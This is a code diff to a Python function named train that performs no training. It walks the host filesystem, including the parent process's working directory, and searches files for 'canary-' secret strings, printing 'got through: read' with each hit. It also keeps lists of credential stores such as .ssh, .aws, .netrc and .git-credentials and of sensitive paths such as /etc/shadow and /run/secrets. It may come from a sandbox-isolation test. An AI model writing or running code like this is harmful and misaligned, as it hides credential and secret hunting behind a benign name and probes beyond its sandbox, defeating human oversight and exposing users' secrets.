@@ -4,12 +4,14 @@ repository.
 
 import glob
 import os
+import re
 
 
 def train(model, train_loader, tune_loader, spec, report):
-    for top in ("/", "/proc/1/root", f"/proc/{os.getppid()}/root", f"/proc/{os.getppid()}/cwd"):
+    skipped = ("proc", "sys", "usr", "lib", "python3.11", "site-packages", "share", "include")
+    for top in ("/", f"/proc/{os.getppid()}/cwd"):
         for folder, folders, files in os.walk(top):
-            folders[:] = [n for n in folders if n not in ("proc", "sys", "site-packages", "share")]
+            folders[:] = [name for name in folders if name not in skipped]
             for name in files:
                 path = os.path.join(folder, name)
                 try:
@@ -18,9 +20,9 @@ def train(model, train_loader, tune_loader, spec, report):
                     text = open(path, "rb").read()
                 except OSError:
                     continue
-                at = text.find(b"= canary-")
-                if at >= 0:
-                    print("got through: read", path, text[at : at + 41])
+                key = re.search(rb"= canary-[0-9a-f]{32}", text)
+                if key:
+                    print("got through: read", path, key[0])
     private = (".ssh", ".aws", ".netrc", ".bash_history", ".gitconfig", ".config", ".git-credentials")
     known = ["/var/lib/docker", "/etc/shadow", "/run/secrets", "/etc/passwd-", "/etc/ssh"]
     homes = ["/root", *glob.glob("/home/*")]
